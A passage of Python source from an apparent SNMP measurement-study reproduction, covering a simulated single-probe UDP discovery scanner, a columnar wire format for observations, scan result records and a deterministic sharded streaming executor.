    source_v6: IPAddress = DEFAULT_SOURCE_V6
    source_port: int = 39321
    shuffle_seed: int = 0xC0FFEE


@keyword_only_compat("fabric", "config")
class ZmapScanner:
    """Single-probe-per-target UDP scanner over a fabric.

    Arguments are keyword-only; the positional ``ZmapScanner(fabric,
    config)`` form is deprecated but still accepted.
    """

    def __init__(
        self,
        *,
        fabric: "NetworkFabric | None" = None,
        config: "ZmapConfig | None" = None,
    ) -> None:
        if fabric is None:
            raise TypeError("ZmapScanner requires a fabric")
        self._fabric = fabric
        self.config = config or ZmapConfig()

    @property
    def fabric(self) -> NetworkFabric:
        """The delivery fabric this scanner probes."""
        return self._fabric

    def scan(
        self,
        targets: "Iterable[IPAddress]",
        label: str,
        ip_version: int,
        start_time: float,
        rate_pps: "float | None" = None,
    ) -> ScanResult:
        """Probe every target once; return the captured scan result.

        ``targets`` may be any iterable (it is materialized once for the
        shuffle); constant-memory streaming belongs to the sharded
        executor's ``execute_stream``, not this legacy engine.
        """
        rate = rate_pps if rate_pps is not None else self.config.rate_pps
        interval = 1.0 / rate
        source = self.config.source_v4 if ip_version == 4 else self.config.source_v6
        shuffled = list(targets)
        random.Random(self.config.shuffle_seed ^ zlib.crc32(label.encode())).shuffle(shuffled)

        result = ScanResult(label=label, ip_version=ip_version, started_at=start_time)
        send_time = start_time
        for index, target in enumerate(shuffled):
            if target.version != ip_version:
                raise ValueError(
                    f"target {target} does not match scan family IPv{ip_version}"
                )
            probe = build_discovery_probe(msg_id=index + 1)
            datagram = Datagram(
                src=source,
                dst=target,
                sport=self.config.source_port,
                dport=SNMP_PORT,
                payload=probe.encode(),
                sent_at=send_time,
            )
            replies = self._fabric.inject(datagram, now=send_time)
            if replies:
                result.add(self._observe(target, replies))
            result.targets_probed += 1
            result.probe_bytes_sent += datagram.wire_size
            result.reply_bytes_received += sum(r.wire_size for r, __ in replies)
            send_time += interval
        result.finished_at = send_time
        return result

    @staticmethod
    def _observe(target: IPAddress, replies: list) -> ScanObservation:
        """Parse the first reply; count the rest (amplification tracking)."""
        first_reply, arrival = replies[0]
        try:
            parsed = parse_discovery_response(first_reply.payload)
        except ber.BerDecodeError:
            return ScanObservation(
                address=target,
                recv_time=arrival,
                engine_id=None,
                response_count=len(replies),
                wire_bytes=first_reply.wire_size,
            )
        return ScanObservation(
            address=target,
            recv_time=arrival,
            engine_id=EngineId(parsed.engine_id),
            engine_boots=parsed.engine_boots,
            engine_time=parsed.engine_time,
            response_count=len(replies),
            wire_bytes=first_reply.wire_size,
        )
