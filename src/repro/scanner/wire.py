"""Compact columnar IPC format for scan observations.

The worker→parent boundary of the parallel executor used to pickle every
:class:`~repro.scanner.records.ScanObservation` dataclass individually,
which made the fork-pool path *slower* than serial — per-instance pickle
overhead dwarfed the probe loop itself.  This module packs a batch of
observations into one struct-packed byte blob instead:

* a one-byte **flags** column (address family, engine-ID presence),
* a packed big-endian **address** column (4 or 16 bytes per row),
* a ``float64`` **receive-time** column (exact round-trip),
* four **adaptive-width integer** columns (boots, time, response count,
  wire bytes) — each column picks the narrowest of ``int8/16/32/64``
  that holds its min/max, with a length-prefixed bigint escape for the
  arbitrary-size integers corrupted BER can legitimately decode to,
* a length-prefixed **engine-ID** column for parsed rows.

Encoding is lossless and order-preserving: ``decode_observations(
encode_observations(batch)) == batch`` for every observation the scan
path can produce (property-tested in ``tests/scanner/test_wire.py``).
A typical discovery batch shrinks well over 3x versus per-instance
pickling — measured by ``benchmarks/test_bench_parallel.py``.

Blobs are a pure function of observation content and batch boundaries —
both of which the staged batch pipeline reproduces exactly (executor
``batch_size`` chunking is independent of the probe-loop shape) — so
pipeline on/off, any worker count and any window size all put identical
bytes on the wire.  The persistent store leans on the same property for
its segment determinism.
"""

from __future__ import annotations

import ipaddress
import struct
from typing import Sequence

from repro.scanner.records import ScanObservation
from repro.snmp.engine_id import EngineId

#: Format version byte, bumped on any incompatible layout change.
WIRE_VERSION = 1

_FLAG_V6 = 0x01
_FLAG_PARSED = 0x02

#: Narrowest-first struct codes for the adaptive integer columns.
_INT_CODES: tuple[tuple[str, int, int], ...] = (
    ("b", -(1 << 7), (1 << 7) - 1),
    ("h", -(1 << 15), (1 << 15) - 1),
    ("i", -(1 << 31), (1 << 31) - 1),
    ("q", -(1 << 63), (1 << 63) - 1),
)
#: Column code for the length-prefixed bigint fallback.
_BIGINT = 0xFF

_HEADER = struct.Struct("<BI")
_U16 = struct.Struct("<H")


class WireFormatError(ValueError):
    """Raised when a blob is not a valid observation batch."""


def _encode_int_column(values: "list[int]") -> bytes:
    """One column: a width-code byte followed by the packed values."""
    if values:
        lo, hi = min(values), max(values)
        for code, cmin, cmax in _INT_CODES:
            if cmin <= lo and hi <= cmax:
                return bytes([ord(code)]) + struct.pack(
                    f"<{len(values)}{code}", *values
                )
    # Arbitrary-precision escape: corrupted-but-parseable BER replies can
    # decode to integers wider than 64 bits, and they must round-trip.
    parts = [bytes([_BIGINT])]
    for value in values:
        if value >= 0:
            width = value.bit_length() // 8 + 1
        else:
            width = (value + 1).bit_length() // 8 + 1
        parts.append(_U16.pack(width))
        parts.append(value.to_bytes(width, "big", signed=True))
    return b"".join(parts)


def _decode_int_column(blob: bytes, offset: int, count: int) -> "tuple[list[int], int]":
    if offset >= len(blob):
        raise WireFormatError("truncated integer column")
    code = blob[offset]
    offset += 1
    if code != _BIGINT:
        fmt = struct.Struct(f"<{count}{chr(code)}")
        end = offset + fmt.size
        if end > len(blob):
            raise WireFormatError("truncated integer column body")
        return list(fmt.unpack(blob[offset:end])), end
    values: "list[int]" = []
    for __ in range(count):
        if offset + 2 > len(blob):
            raise WireFormatError("truncated bigint length")
        (width,) = _U16.unpack_from(blob, offset)
        offset += 2
        if offset + width > len(blob):
            raise WireFormatError("truncated bigint body")
        values.append(int.from_bytes(blob[offset : offset + width], "big", signed=True))
        offset += width
    return values, offset


def encode_observations(observations: "Sequence[ScanObservation]") -> bytes:
    """Pack a batch of observations into one columnar blob."""
    count = len(observations)
    flags = bytearray(count)
    addresses = bytearray()
    boots: "list[int]" = []
    times: "list[int]" = []
    responses: "list[int]" = []
    wire_bytes: "list[int]" = []
    engine_ids = bytearray()
    for row, obs in enumerate(observations):
        flag = 0
        if obs.address.version == 6:
            flag |= _FLAG_V6
            addresses += int(obs.address).to_bytes(16, "big")
        else:
            addresses += int(obs.address).to_bytes(4, "big")
        if obs.engine_id is not None:
            flag |= _FLAG_PARSED
            raw = obs.engine_id.raw
            engine_ids += _U16.pack(len(raw))
            engine_ids += raw
        flags[row] = flag
        boots.append(obs.engine_boots)
        times.append(obs.engine_time)
        responses.append(obs.response_count)
        wire_bytes.append(obs.wire_bytes)
    return b"".join(
        (
            _HEADER.pack(WIRE_VERSION, count),
            bytes(flags),
            bytes(addresses),
            struct.pack(f"<{count}d", *(obs.recv_time for obs in observations)),
            _encode_int_column(boots),
            _encode_int_column(times),
            _encode_int_column(responses),
            _encode_int_column(wire_bytes),
            bytes(engine_ids),
        )
    )


def decode_observations(blob: bytes) -> "list[ScanObservation]":
    """Unpack a columnar blob back into observation records."""
    if len(blob) < _HEADER.size:
        raise WireFormatError("truncated batch header")
    version, count = _HEADER.unpack_from(blob, 0)
    if version != WIRE_VERSION:
        raise WireFormatError(f"unsupported wire version {version}")
    offset = _HEADER.size
    flags = blob[offset : offset + count]
    if len(flags) != count:
        raise WireFormatError("truncated flags column")
    offset += count
    addresses: "list[ipaddress.IPv4Address | ipaddress.IPv6Address]" = []
    for flag in flags:
        width = 16 if flag & _FLAG_V6 else 4
        if offset + width > len(blob):
            raise WireFormatError("truncated address column")
        raw = blob[offset : offset + width]
        offset += width
        if flag & _FLAG_V6:
            addresses.append(ipaddress.IPv6Address(raw))
        else:
            addresses.append(ipaddress.IPv4Address(raw))
    times_fmt = struct.Struct(f"<{count}d")
    if offset + times_fmt.size > len(blob):
        raise WireFormatError("truncated receive-time column")
    recv_times = times_fmt.unpack_from(blob, offset)
    offset += times_fmt.size
    boots, offset = _decode_int_column(blob, offset, count)
    etimes, offset = _decode_int_column(blob, offset, count)
    responses, offset = _decode_int_column(blob, offset, count)
    wire_bytes, offset = _decode_int_column(blob, offset, count)
    observations: "list[ScanObservation]" = []
    for row in range(count):
        engine_id = None
        if flags[row] & _FLAG_PARSED:
            if offset + 2 > len(blob):
                raise WireFormatError("truncated engine-ID length")
            (width,) = _U16.unpack_from(blob, offset)
            offset += 2
            if offset + width > len(blob):
                raise WireFormatError("truncated engine-ID body")
            engine_id = EngineId(blob[offset : offset + width])
            offset += width
        observations.append(
            ScanObservation(
                address=addresses[row],
                recv_time=recv_times[row],
                engine_id=engine_id,
                engine_boots=boots[row],
                engine_time=etimes[row],
                response_count=responses[row],
                wire_bytes=wire_bytes[row],
            )
        )
    if offset != len(blob):
        raise WireFormatError("trailing bytes after observation batch")
    return observations


__all__ = [
    "WIRE_VERSION",
    "WireFormatError",
    "decode_observations",
    "encode_observations",
]
