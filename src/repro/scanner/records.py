"""Observation records produced by a scan.

One :class:`ScanObservation` per responsive target IP — the row format the
whole measurement pipeline consumes.  A :class:`ScanResult` is one full
campaign pass (e.g. "IPv4 scan 1") with bookkeeping that backs Table 1 and
the §8 amplification analysis.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Iterator

from repro.net.addresses import IPAddress
from repro.snmp.engine_id import EngineId


@dataclass(frozen=True)
class ScanObservation:
    """What one responsive IP told us.

    ``engine_id`` is ``None`` when the reply could not be parsed at all
    (malformed); an *empty* engine ID is represented by an ``EngineId``
    over zero bytes — the distinction feeds the missing-engine-ID filter.
    ``response_count`` exceeds 1 for the §8 amplification population.
    """

    address: IPAddress
    recv_time: float
    engine_id: "EngineId | None"
    engine_boots: int = 0
    engine_time: int = 0
    response_count: int = 1
    wire_bytes: int = 0

    @property
    def version(self) -> int:
        return self.address.version

    @property
    def last_reboot_time(self) -> float:
        """Derived last reboot: receive time minus reported engine time."""
        return self.recv_time - float(self.engine_time)

    @property
    def parsed(self) -> bool:
        return self.engine_id is not None


@dataclass
class ScanResult:
    """One complete scan pass over a target list."""

    label: str
    ip_version: int
    started_at: float
    finished_at: float = 0.0
    targets_probed: int = 0
    observations: dict[IPAddress, ScanObservation] = field(default_factory=dict)
    #: IPs that sent more than one reply, with their reply counts (§8).
    multi_responders: dict[IPAddress, int] = field(default_factory=dict)
    probe_bytes_sent: int = 0
    reply_bytes_received: int = 0

    def add(self, observation: ScanObservation) -> None:
        """Record one responsive IP (keeps the first observation per IP)."""
        if observation.address not in self.observations:
            self.observations[observation.address] = observation
        if observation.response_count > 1:
            self.multi_responders[observation.address] = observation.response_count

    def add_batch(self, batch: "list[ScanObservation]") -> None:
        """Record one observation batch (same keep-first semantics as
        :meth:`add`, without per-observation method dispatch)."""
        observations = self.observations
        multi = self.multi_responders
        setdefault = observations.setdefault
        for observation in batch:
            setdefault(observation.address, observation)
            if observation.response_count > 1:
                multi[observation.address] = observation.response_count

    @property
    def responsive_count(self) -> int:
        """Number of distinct responsive IPs (Table 1 '#IPs')."""
        return len(self.observations)

    def unique_engine_ids(self) -> int:
        """Number of distinct parsed engine IDs (Table 1 '#Engine IDs')."""
        return len(
            {
                obs.engine_id.raw
                for obs in self.observations.values()
                if obs.engine_id is not None
            }
        )

    def __iter__(self) -> Iterator[ScanObservation]:
        return iter(self.observations.values())

    def __len__(self) -> int:
        return len(self.observations)


__all__ = ["ScanObservation", "ScanResult"]
