"""Sharded, streaming scan execution.

The legacy :class:`~repro.scanner.zmap.ZmapScanner` walks the whole
target permutation in one synchronous pass and materializes every
observation before anything downstream runs.  This module replaces that
shape for production-scale campaigns:

* **Sharding** — the permuted target list is partitioned into a fixed
  number of shards, grouped by *owning device* so that all probes that
  can touch one agent's session state (usmStats counters, load-balancer
  round-robin cursors) land in the same shard;
* **Determinism** — every shard gets its own loss/jitter RNG seeded from
  ``(campaign seed, scan label, shard index)`` via a fabric
  :class:`~repro.net.transport.FabricView`, and agent session state is
  snapshotted before and restored after each shard.  Results are
  therefore byte-identical whether shards run inline, on one worker, or
  on eight;
* **Parallelism** — shards run on a ``fork``-based process pool
  (``workers > 1``) with a serial inline fallback; per-shard results are
  merged in shard order, which keeps the merge deterministic too;
* **Streaming** — observations are yielded in bounded batches so the
  campaign, the filter pipeline and the JSONL exporters never hold a
  full Internet-scale scan in memory.

The probe hot loop uses
:func:`repro.snmp.messages.encode_discovery_probe` (byte-identical to
the message-object path, ~6x cheaper), which makes the sharded engine
measurably faster than the legacy scanner even on a single core — see
``benchmarks/test_bench_executor.py``.
"""

from __future__ import annotations

import hashlib
import multiprocessing
import time
import zlib
from array import array
from dataclasses import dataclass
from itertools import islice
from typing import TYPE_CHECKING, Callable, Iterable, Iterator, Mapping

from repro.net.addresses import IPAddress
from repro.net.packet import Datagram
from repro.net.transport import FabricView, HandlerTimer, NetworkFabric
from repro.scanner.metrics import ExecutorMetrics, ShardMetrics
from repro.scanner.pipeline import StageTimings, probe_targets_pipelined
from repro.scanner.pool import MSG_METRICS, WorkerPool
from repro.scanner.records import ScanObservation, ScanResult
from repro.scanner.wire import decode_observations
from repro.scanner.zmap import ZmapConfig, ZmapScanner
from repro.snmp.constants import SNMP_PORT
from repro.snmp.messages import encode_discovery_probe

if TYPE_CHECKING:
    from repro.net.faults import FaultProfile
    from repro.topology.model import Device

#: Default shard count.  Fixed independently of the worker count: the
#: shard plan (and with it every RNG stream) must not change when the
#: same campaign is re-run with more workers.
DEFAULT_NUM_SHARDS = 16

#: Default streaming batch size (observations per yielded batch).
DEFAULT_BATCH_SIZE = 2048

#: Default in-flight window of the staged batch pipeline (probes encoded,
#: injected and decoded per stage pass).  Large enough to amortize
#: per-stage dispatch, small enough that streaming consumers see output
#: well before a shard finishes.
DEFAULT_WINDOW = 512

#: Default targets per planning window when streaming (``execute_stream``
#: with ``target_window=0``).  Large enough that per-window shard-plan
#: and pool-setup costs amortize, small enough that a lazy topology's
#: resident device set stays a tiny fraction of the world.
DEFAULT_TARGET_WINDOW = 65536


@dataclass(frozen=True)
class RetryPolicy:
    """Per-probe fault tolerance of the scan hot loop.

    ``max_retries`` bounds how many *additional* probes a target gets
    when the first one yields no parseable reply.  ``timeout`` (virtual
    seconds) discards replies arriving later than ``send + timeout`` —
    ``None`` disables the deadline entirely, which is the legacy
    behaviour.  Retries are spaced ``timeout + backoff_base *
    backoff_factor**attempt`` apart in virtual time (exponential
    backoff, so rate-limited targets see widening gaps).

    ``breaker_threshold`` is the dead-target circuit breaker: after that
    many *consecutive* unanswered probes to one device, later probes to
    the same device keep their single initial packet (the ethical
    one-probe contract) but stop being retried.  ``0`` disables it.

    Everything here is deterministic: retry schedules are pure functions
    of the shard's own probe outcomes, so any worker count produces
    byte-identical results.
    """

    max_retries: int = 0
    timeout: "float | None" = None
    backoff_base: float = 0.5
    backoff_factor: float = 2.0
    breaker_threshold: int = 0

    def __post_init__(self) -> None:
        if self.max_retries < 0:
            raise ValueError(f"max_retries must be >= 0, got {self.max_retries}")
        if self.timeout is not None and self.timeout <= 0:
            raise ValueError(f"timeout must be > 0, got {self.timeout}")
        if self.backoff_base < 0:
            raise ValueError(f"backoff_base must be >= 0, got {self.backoff_base}")
        if self.backoff_factor < 1.0:
            raise ValueError(
                f"backoff_factor must be >= 1, got {self.backoff_factor}"
            )
        if self.breaker_threshold < 0:
            raise ValueError(
                f"breaker_threshold must be >= 0, got {self.breaker_threshold}"
            )
        if self.max_retries and self.timeout is None:
            raise ValueError("retries require a timeout to schedule around")

    def retry_send_time(self, send_time: float, attempt: int) -> float:
        """Virtual send slot of retry number ``attempt`` (1-based)."""
        return send_time + self.timeout + self.backoff_base * (
            self.backoff_factor ** (attempt - 1)
        )


@dataclass(frozen=True)
class ExecutorConfig:
    """Execution-shape parameters of the sharded engine.

    ``workers`` counts OS processes: ``0``/``1`` runs all shards inline
    (the serial fallback, also used where ``fork`` is unavailable).
    ``seed`` is the determinism root — campaigns pass ``topology.seed``.
    ``retry`` is the per-probe fault-tolerance policy; the default policy
    (no retries, no timeout) reproduces the legacy single-probe engine
    exactly, including its RNG streams.
    """

    workers: int = 1
    num_shards: int = DEFAULT_NUM_SHARDS
    batch_size: int = DEFAULT_BATCH_SIZE
    seed: int = 0
    retry: RetryPolicy = RetryPolicy()
    #: Collect per-stage timings (encode / fabric / agent / decode) into
    #: the shard metrics.  Off by default: the timers cost real time in
    #: the probe hot loop.  Never affects scan *results*.
    profile: bool = False
    #: Run the batch-staged probe pipeline (:mod:`repro.scanner.pipeline`).
    #: ``False`` selects the legacy per-probe loop for A/B comparison;
    #: both produce byte-identical results.
    pipeline: bool = True
    #: In-flight probes per pipeline stage pass.
    window: int = DEFAULT_WINDOW
    #: Targets per planning window on the streaming path
    #: (:meth:`ShardedScanExecutor.execute_stream`); ``0`` selects
    #: :data:`DEFAULT_TARGET_WINDOW`.  Never affects ``execute()``.
    #: Like ``num_shards``, the window size is part of the deterministic
    #: result geometry — each window is shard-planned independently, so
    #: runs are reproducible (and lazy/eager-identical) at a fixed window
    #: size but differ across window sizes.
    target_window: int = 0

    def __post_init__(self) -> None:
        if self.num_shards < 1:
            raise ValueError(f"num_shards must be >= 1, got {self.num_shards}")
        if self.batch_size < 1:
            raise ValueError(f"batch_size must be >= 1, got {self.batch_size}")
        if self.workers < 0:
            raise ValueError(f"workers must be >= 0, got {self.workers}")
        if self.window < 1:
            raise ValueError(f"window must be >= 1, got {self.window}")
        if self.target_window < 0:
            raise ValueError(
                f"target_window must be >= 0, got {self.target_window}"
            )


@dataclass(frozen=True)
class ExecutionOptions:
    """The blessed execution-knob bundle of the public facade.

    One frozen object carrying every way a caller can shape *how* a
    campaign executes — worker processes, shard/batch/window geometry,
    the batch-pipeline A/B switch, retry policy, stage profiling and the
    fabric's fault injection — without touching *what* it measures.
    ``None`` means "engine default".  :class:`~repro.api.Session`,
    ``run_campaign`` and the CLI accept this object; the historical flat
    keyword arguments remain as deprecated aliases (API002 lints against
    growing new ones).

    ``fault_profile`` and ``loss_probability`` ride along because the
    facade has always treated them as execution shape: they select what
    the simulated Internet does to probes, not which devices exist.
    """

    workers: "int | None" = None
    num_shards: "int | None" = None
    batch_size: "int | None" = None
    window: "int | None" = None
    pipeline: "bool | None" = None
    retry: "RetryPolicy | None" = None
    profile: bool = False
    fault_profile: "FaultProfile | str | None" = None
    loss_probability: "float | None" = None
    #: Targets per streaming planning window (streamed-layout campaigns).
    target_window: "int | None" = None

    @property
    def selects_executor(self) -> bool:
        """Whether any sharded-engine knob is set.

        Mirrors the flat-kwarg behavior exactly: geometry, pipeline,
        retry or profiling knobs imply the sharded engine, while
        ``fault_profile``/``loss_probability`` only shape the fabric —
        a campaign with just those still runs the legacy single-pass
        scanner, the facade's long-standing default.
        """
        return (
            self.workers is not None
            or self.num_shards is not None
            or self.batch_size is not None
            or self.window is not None
            or self.pipeline is not None
            or self.retry is not None
            or self.profile
            or self.target_window is not None
        )

    def executor_config(self, seed: int) -> ExecutorConfig:
        """Materialize an :class:`ExecutorConfig`, defaulting unset fields."""
        return ExecutorConfig(
            workers=1 if self.workers is None else self.workers,
            num_shards=(
                DEFAULT_NUM_SHARDS if self.num_shards is None else self.num_shards
            ),
            batch_size=(
                DEFAULT_BATCH_SIZE if self.batch_size is None else self.batch_size
            ),
            seed=seed,
            retry=self.retry if self.retry is not None else RetryPolicy(),
            profile=self.profile,
            pipeline=True if self.pipeline is None else self.pipeline,
            window=DEFAULT_WINDOW if self.window is None else self.window,
            target_window=0 if self.target_window is None else self.target_window,
        )


@dataclass(frozen=True)
class ShardSpec:
    """One shard of a scan: permuted targets plus its RNG seed.

    ``items`` are ``(global_index, target)`` pairs — the global index
    preserves each probe's msg_id and virtual send slot from the full
    permutation, so shard composition never changes wire contents.
    ``device_ids`` are the owners whose agent state the shard snapshots.
    """

    index: int
    seed: int
    items: tuple[tuple[int, IPAddress], ...]
    device_ids: tuple[int, ...]


def shard_seed(base_seed: int, label: str, shard_index: int) -> int:
    """Stable 64-bit per-shard RNG seed from the campaign determinism root."""
    digest = hashlib.sha256(f"{base_seed}:{label}:{shard_index}".encode()).digest()
    return int.from_bytes(digest[:8], "big")


#: Memoized shuffle orders.  The planning permutation is a pure function
#: of ``(shuffle seed ^ label digest, target count)`` and the same key
#: recurs constantly — every scan of a repeated campaign, every rep of a
#: benchmark, every worker count of an identity gate — so the O(n)
#: Python-level Fisher-Yates runs once per key, not once per plan.  The
#: cached order is read-only by construction (planning only iterates it).
_PERMUTATION_CACHE: "dict[tuple[int, int], array]" = {}
_PERMUTATION_CACHE_MAX = 16


def _permutation(key: int, count: int) -> "array":
    """Memoized Fisher-Yates order for one ``(shuffle key, length)``.

    Streaming campaigns re-plan the same window geometry for every
    window of every scan, so the shuffle — a pure function of the key
    and length — is cached.  Entries are stored as C ``array``s rather
    than int lists: a 65536-slot permutation costs 512 KB instead of
    ~2.5 MB of boxed integers, keeping the memo invisible next to the
    residency window.
    """
    import random

    cache_key = (key, count)
    order = _PERMUTATION_CACHE.get(cache_key)
    if order is None:
        shuffled = list(range(count))
        random.Random(key).shuffle(shuffled)
        order = array("l", shuffled)
        # A memo of pure functions: every process derives identical
        # entries from (key, count), so fork-pool sharing cannot skew
        # results.
        if len(_PERMUTATION_CACHE) >= _PERMUTATION_CACHE_MAX:
            del _PERMUTATION_CACHE[next(iter(_PERMUTATION_CACHE))]  # repro-lint: disable=DET002
        _PERMUTATION_CACHE[cache_key] = order  # repro-lint: disable=DET002
    return order


def plan_shards(
    targets: "list[IPAddress]",
    *,
    label: str,
    num_shards: int,
    seed: int,
    shuffle_seed: int,
    owner_of: "Callable[[IPAddress], int | None]",
    base_index: int = 0,
    owners: "list[int | None] | None" = None,
) -> list[ShardSpec]:
    """Partition a target list into deterministic shards.

    Targets are permuted exactly like the legacy scanner (so probe
    ``msg_id``/send-time assignment is comparable), then routed to
    ``owner_device_id % num_shards``.  Addresses with no owning device
    (closed or unassigned — they can never answer or consume RNG) are
    spread by address hash.

    ``base_index`` offsets the global probe indices: the streaming path
    plans one window at a time but every probe must keep the msg_id and
    virtual send slot it would have had in a single whole-scan plan.

    ``owners`` optionally carries the pre-resolved owner of each target,
    aligned with ``targets`` in *input* order — callers with a batch
    ownership view (array arithmetic over a stream plan, a C-speed dict
    sweep) resolve whole windows at once instead of paying a Python call
    per target.  Ownership is a pure function during planning, so the
    plan is byte-identical either way.
    """
    count = len(targets)
    # Permute positions, not targets: Fisher-Yates depends only on the
    # sequence length and seed, so shuffling the index array yields the
    # exact historical permutation while ownership resolves in input
    # order (sorted address order — the cache-friendly order).
    order = _permutation(shuffle_seed ^ zlib.crc32(label.encode()), count)
    if owners is None:
        # Bound-method fast path: for dict-backed ownership this sweep
        # runs entirely at C speed.
        owners = list(map(owner_of, targets))
    elif len(owners) != count:
        raise ValueError(
            f"owners carries {len(owners)} entries for {count} targets"
        )
    buckets: list[list[tuple[int, IPAddress]]] = [[] for __ in range(num_shards)]
    appends = [bucket.append for bucket in buckets]
    # Shard membership of *devices* is permutation-independent, so the
    # per-shard owner sets come from one C-speed dedup over the owners
    # column instead of a set-add per target in the hot loop below.
    owner_sets: list[set[int]] = [set() for __ in range(num_shards)]
    for device_id in set(owners):
        if device_id is not None:
            owner_sets[device_id % num_shards].add(device_id)
    permuted = zip(
        map(targets.__getitem__, order), map(owners.__getitem__, order)
    )
    for position, pair in enumerate(permuted, start=base_index):
        target, device_id = pair
        if device_id is None:
            shard = int(target) % num_shards
        else:
            shard = device_id % num_shards
        appends[shard]((position, target))
    return [
        ShardSpec(
            index=i,
            seed=shard_seed(seed, label, i),
            items=tuple(buckets[i]),
            device_ids=tuple(sorted(owner_sets[i])),
        )
        for i in range(num_shards)
    ]


# -- agent session-state isolation ------------------------------------------


def _snapshot_device(device: "Device") -> tuple:
    """Capture the mutable SNMP session state probes can perturb."""
    agent = device.agent
    pool = device.agent_pool
    # Pool-less devices are the overwhelmingly common case and this runs
    # once per device per shard, so build their snapshot without the
    # list/generator machinery.
    if pool is None:
        return (
            None,
            (
                (
                    agent.boot_time,
                    agent.engine_boots,
                    agent.stats_unknown_engine_ids,
                    agent.stats_unknown_user_names,
                    agent.stats_wrong_digests,
                    agent.handled_count,
                ),
            ),
        )
    return (
        pool._rr_counter,
        tuple(
            (
                a.boot_time,
                a.engine_boots,
                a.stats_unknown_engine_ids,
                a.stats_unknown_user_names,
                a.stats_wrong_digests,
                a.handled_count,
            )
            for a in [agent, *pool.backends]
        ),
    )


def _restore_device(device: "Device", snapshot: tuple) -> None:
    rr_counter, agent_states = snapshot
    agents = [device.agent]
    if device.agent_pool is not None:
        device.agent_pool._rr_counter = rr_counter
        agents.extend(device.agent_pool.backends)
    for agent, state in zip(agents, agent_states):
        (
            agent.boot_time,
            agent.engine_boots,
            agent.stats_unknown_engine_ids,
            agent.stats_unknown_user_names,
            agent.stats_wrong_digests,
            agent.handled_count,
        ) = state


# -- per-scan wire parameters -------------------------------------------------


@dataclass(frozen=True)
class _ScanParams:
    """Everything a shard runner needs besides the shard itself."""

    label: str
    ip_version: int
    start_time: float
    interval: float
    source: IPAddress
    source_port: int


class ScanExecution:
    """Handle over one sharded scan: a batch stream plus its metrics.

    ``batches()`` (or ``observations()``) may be consumed once; metrics
    finalize when the stream is exhausted.  ``result()`` drains the
    stream into a materialized :class:`ScanResult` for callers that
    still want the legacy shape.
    """

    def __init__(
        self,
        executor: "ShardedScanExecutor",
        plan: list[ShardSpec],
        params: _ScanParams,
        total_targets: int,
    ) -> None:
        self._executor = executor
        self._plan = plan
        self._params = params
        self._consumed = False
        self.total_targets = total_targets
        self.label = params.label
        self.ip_version = params.ip_version
        self.started_at = params.start_time
        #: Virtual completion time: one send slot per target, as legacy.
        self.finished_at = params.start_time + total_targets * params.interval
        self.metrics = ExecutorMetrics(
            label=params.label,
            workers=self._executor.effective_workers,
            num_shards=len(plan),
            batch_size=self._executor.config.batch_size,
        )

    def batches(self) -> Iterator[list[ScanObservation]]:
        """Yield observation batches in deterministic shard order."""
        if self._consumed:
            raise RuntimeError("a ScanExecution stream can only be consumed once")
        self._consumed = True
        return self._executor._stream(self._plan, self._params, self.metrics)

    def observations(self) -> Iterator[ScanObservation]:
        """Flattened view over :meth:`batches`."""
        for batch in self.batches():
            yield from batch

    def result(self) -> ScanResult:
        """Materialize the stream into a legacy :class:`ScanResult`."""
        scan = ScanResult(
            label=self.label,
            ip_version=self.ip_version,
            started_at=self.started_at,
        )
        metrics = self.metrics
        for batch in self.batches():
            ingest_started = time.perf_counter()
            scan.add_batch(batch)
            metrics.ingest_time += time.perf_counter() - ingest_started
        scan.finished_at = self.finished_at
        scan.targets_probed = metrics.probes_sent
        scan.probe_bytes_sent = sum(s.probe_bytes for s in metrics.shards)
        scan.reply_bytes_received = sum(s.reply_bytes for s in metrics.shards)
        return scan


class StreamingScanExecution:
    """Handle over a windowed scan driven by a target *iterator*.

    The target stream is consumed one planning window at a time: each
    window is shard-planned with its global probe indices preserved
    (``plan_shards(..., base_index=...)``), executed serially or on an
    ephemeral per-window worker pool, and its observations yielded
    before the next window's targets are even pulled.  Nothing —
    not the executor, not a lazy topology's device cache — ever holds
    more than one window of state, which is what makes a 10M-address
    campaign constant-memory.

    ``total_targets`` and ``finished_at`` are unknown until the stream
    is exhausted (``None`` before that); :meth:`result` drains first, so
    it always reports both.
    """

    def __init__(
        self,
        executor: "ShardedScanExecutor",
        targets: "Iterable[IPAddress]",
        params: _ScanParams,
        target_window: int,
    ) -> None:
        self._executor = executor
        self._targets = targets
        self._params = params
        self._target_window = target_window
        self._consumed = False
        self.label = params.label
        self.ip_version = params.ip_version
        self.started_at = params.start_time
        self.total_targets: "int | None" = None
        self.finished_at: "float | None" = None
        self.metrics = ExecutorMetrics(
            label=params.label,
            workers=executor.effective_workers,
            num_shards=executor.config.num_shards,
            batch_size=executor.config.batch_size,
        )

    def batches(self) -> Iterator[list[ScanObservation]]:
        """Yield observation batches window by window, shard order within."""
        if self._consumed:
            raise RuntimeError(
                "a StreamingScanExecution stream can only be consumed once"
            )
        self._consumed = True
        return self._stream_windows()

    def _stream_windows(self) -> Iterator[list[ScanObservation]]:
        executor = self._executor
        params = self._params
        metrics = self.metrics
        ip_version = params.ip_version
        started = time.perf_counter()
        base_index = 0
        window_index = 0
        target_iter = iter(self._targets)
        try:
            while True:
                chunk = list(islice(target_iter, self._target_window))
                if not chunk:
                    break
                plan_started = time.perf_counter()
                for target in chunk:
                    if target.version != ip_version:
                        raise ValueError(
                            f"target {target} does not match scan family "
                            f"IPv{ip_version}"
                        )
                # Per-window plan label: distinct shard RNG seeds and
                # shuffle permutations per window, like distinct scans.
                plan = plan_shards(
                    chunk,
                    label=f"{params.label}@{window_index}",
                    num_shards=executor.config.num_shards,
                    seed=executor.config.seed,
                    shuffle_seed=executor.zmap_config.shuffle_seed,
                    owner_of=executor._owner_of,
                    base_index=base_index,
                    owners=(
                        None
                        if executor._owner_of_batch is None
                        else executor._owner_of_batch(chunk)
                    ),
                )
                metrics.plan_time += time.perf_counter() - plan_started
                yield from executor._stream_window_batches(
                    plan, params, metrics, f"{params.label}@{window_index}"
                )
                base_index += len(chunk)
                window_index += 1
            self.total_targets = base_index
            self.finished_at = params.start_time + base_index * params.interval
        finally:
            metrics.wall_time = time.perf_counter() - started

    def observations(self) -> Iterator[ScanObservation]:
        """Flattened view over :meth:`batches`."""
        for batch in self.batches():
            yield from batch

    def result(self) -> ScanResult:
        """Drain the stream into a materialized :class:`ScanResult`."""
        scan = ScanResult(
            label=self.label,
            ip_version=self.ip_version,
            started_at=self.started_at,
        )
        metrics = self.metrics
        for batch in self.batches():
            ingest_started = time.perf_counter()
            scan.add_batch(batch)
